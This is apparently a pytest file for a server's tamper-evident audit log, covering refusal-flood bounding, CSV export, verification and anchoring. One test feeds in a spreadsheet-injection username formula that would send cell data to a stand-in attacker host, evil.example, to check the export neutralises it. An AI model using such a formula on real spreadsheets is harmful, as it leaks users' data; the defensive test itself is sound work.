"""The audit log against a real front over HTTP: a refusal flood costs a bounded, small amount and is still
accounted for; a formula in a Basic-auth username comes out of the CSV export as text; verify over HTTP runs
off the event loop and sees a truncation; a clean shutdown anchors the head."""

from __future__ import annotations

import asyncio
import base64
import csv
import json
import time
from collections.abc import AsyncIterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from aiohttp.test_utils import TestClient, TestServer
from helpers.access import FAST

from mediaserver.cli import main as cli
from mediaserver.cluster.worker_client import LocalWorkerClient
from mediaserver.egress import Egress
from mediaserver.hub import Hub
from signaling.access import ACCESS, Access
from signaling.app import create_app
from signaling.audit import GENESIS, AnchorPolicy, _hash_text, record_mac
from signaling.refusals import RefusalLimits

Client = TestClient[Any, Any]


@pytest.fixture
async def front(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[tuple[Client, Access]]:
    monkeypatch.delenv("GOLDENTIME_AUDIT_KEY", raising=False)
    monkeypatch.delenv("GOLDENTIME_AUDIT_KEY_FILE", raising=False)
    egress = no_cameras()
    app = create_app(LocalWorkerClient(egress), list, db=tmp_path / "gt.db", access=FAST)
    async with TestClient(TestServer(app, host="127.0.0.1")) as http:
        yield http, app[ACCESS]
    await egress.close_all()


def no_cameras() -> Egress:
    hubs: dict[str, Hub] = {}
    return Egress(hubs.get, ice_hosts=["127.0.0.1"])


def anchor_lines(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text().splitlines()]


def audit_bytes(access: Access) -> tuple[int, int]:
    rows, size = access.audit.db.execute("SELECT count(*), coalesce(sum(length(record)), 0) FROM audit").fetchone()
    return int(rows), int(size)


async def test_a_refusal_flood_is_bounded_and_accounted_for(front: tuple[Client, Access]) -> None:
    http, access = front
    rows0, size0 = audit_bytes(access)
    long = "x" * 7000
    statuses = await asyncio.wait_for(
        asyncio.gather(*(
            http.get(f"/api/incidents/{long}{i}") if i % 2 else http.post(f"/whep/{long}{i}", data="v=0")
            for i in range(300)
        )), 60,
    )  # fmt: skip
    assert {r.status for r in statuses} == {401}
    assert audit_bytes(access)[1] - size0 < 32_000  # was 4.3 MB: 7 KB of path (and camera id) per record
    assert access.flush_refusals() == 1  # one summary for 127.0.0.1
    rows, size = audit_bytes(access)
    assert size - size0 < 32_000, size - size0
    denied = access.audit.query(event="access.denied", limit=-1)
    [summary] = access.audit.query(event="access.suppressed")
    assert len(denied) + summary["detail"]["count"] == 300  # every refusal is counted
    assert len(denied) <= FAST.refusals.burst + 2 and rows - rows0 == len(denied) + 1
    assert summary["remote"] == "127.0.0.1" and summary["detail"]["statuses"] == {"401": summary["detail"]["count"]}
    assert all(len(r["detail"]["path"]) < 300 for r in denied) and "[7" in denied[0]["detail"]["path"]
    assert access.audit.verify().ok


async def test_a_formula_username_is_text_in_the_csv_export(front: tuple[Client, Access], tmp_path: Path) -> None:
    http, access = front
    formula = '=HYPERLINK("//evil.example/?leak="&A1,"Open")'  # no colon: Basic splits there
    basic = base64.b64encode(f"{formula}:x".encode()).decode()
    res = await http.post("/api/incidents", json={}, headers={"Authorization": f"Basic {basic}"})
    assert res.status == 401
    [denied] = access.audit.query(event="access.denied")
    assert denied["client_id"] == formula  # the record keeps what was sent
    out = tmp_path / "audit.csv"
    assert cli(["audit", "export", "--format", "csv", "--out", str(out), "--db", str(tmp_path / "gt.db")]) == 0
    [row] = [r for r in csv.DictReader(out.open(newline="")) if r["event"] == "access.denied"]
    assert row["client_id"] == "'" + formula
    anchors = anchor_lines(Path(f"{out}.anchors"))
    assert anchors[0]["reason"] == "open" and all("mac" in a for a in anchors)


async def test_verify_over_http_runs_off_the_loop_and_sees_truncation(front: tuple[Client, Access]) -> None:
    http, access = front
    client, secret = access.add_client("privacy-office", "auditor app", "auditor")
    auditor = {"Authorization": "Basic " + base64.b64encode(f"{client.client_id}:{secret}".encode()).decode()}
    db, key = access.audit.db, access.audit.key
    last, prev = db.execute("SELECT seq, hash FROM audit ORDER BY seq DESC LIMIT 1").fetchone()
    db.execute("BEGIN")
    for seq in range(last + 1, last + 60_001):  # a big log, written fast (as append() would, with its MACs)
        text = json.dumps({"event": "view.started", "seq": seq, "ts": "2026-12-01T00:00:00Z"},
                          sort_keys=True, separators=(",", ":"))  # fmt: skip
        digest = _hash_text(prev, text)
        db.execute("INSERT INTO audit (seq, ts, event, record, prev_hash, hash, mac) VALUES (?,?,?,?,?,?,?)",
                   (seq, time.time(), "view.started", text, prev, digest, record_mac(key, digest)))  # fmt: skip
        prev = digest
    db.execute("COMMIT")
    access.audit.anchor()
    assert prev != GENESIS

    gaps: list[float] = []

    async def ticker() -> None:
        t = time.perf_counter()
        while True:
            await asyncio.sleep(0.005)
            now = time.perf_counter()
            gaps.append(now - t)
            t = now

    tick = asyncio.create_task(ticker())
    try:
        res = await asyncio.wait_for(http.get("/api/audit/verify", headers=auditor), 60)
        body = await res.json()
    finally:
        tick.cancel()
    assert body["ok"] is True and body["records"] > 60_000, body
    assert max(gaps) < 0.2, f"the loop waited {max(gaps) * 1000:.0f} ms"  # on the loop: ~0.5-4 s for 60k records

    db.execute("DROP TRIGGER audit_no_delete")
    db.execute("DELETE FROM audit WHERE seq > ?", (last + 59_650,))
    body = await (await asyncio.wait_for(http.get("/api/audit/verify", headers=auditor), 60)).json()
    assert body["ok"] is False and body["bad_seq"] == last + 59_651 and "missing" in body["problem"]


async def test_a_clean_shutdown_anchors_the_head(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("GOLDENTIME_AUDIT_KEY", raising=False)
    monkeypatch.delenv("GOLDENTIME_AUDIT_KEY_FILE", raising=False)
    egress = no_cameras()
    app = create_app(LocalWorkerClient(egress), list, db=tmp_path / "gt.db", access=FAST)
    async with TestClient(TestServer(app, host="127.0.0.1")) as http:
        for _ in range(3):
            assert (await http.get("/api/incidents/x")).status == 401
    anchors = anchor_lines(Path(f"{tmp_path / 'gt.db'}.audit-anchors"))
    assert anchors[-1]["reason"] == "shutdown" and anchors[-1]["seq"] == 3


async def test_the_sweep_writes_summaries_and_anchors_on_time(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("GOLDENTIME_AUDIT_KEY", raising=False)
    monkeypatch.delenv("GOLDENTIME_AUDIT_KEY_FILE", raising=False)
    settings = replace(FAST, refusals=RefusalLimits(burst=5, rate=0.1, summary_s=0.3),
                       anchors=AnchorPolicy(every_records=1000, every_s=0.3))  # fmt: skip
    egress = no_cameras()
    app = create_app(LocalWorkerClient(egress), list, db=tmp_path / "gt.db", access=settings)
    anchors = Path(f"{tmp_path / 'gt.db'}.audit-anchors")
    async with TestClient(TestServer(app, host="127.0.0.1")) as http:
        access = app[ACCESS]
        for _ in range(12):
            assert (await http.get("/api/incidents/x")).status == 401
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:  # until every refusal is written or summarised, and all anchored
            denied = access.audit.query(event="access.denied")
            summaries = access.audit.query(event="access.suppressed")
            counted = len(denied) + sum(r["detail"]["count"] for r in summaries)
            last = anchor_lines(anchors)[-1]
            if counted == 12 and last["seq"] == audit_bytes(access)[0]:
                break
            await asyncio.sleep(0.05)
        assert summaries and counted == 12 and len(denied) <= 6, (denied, summaries)
        assert last["reason"] == "interval" and last["seq"] == len(denied) + len(summaries)  # by the sweep
    await egress.close_all()
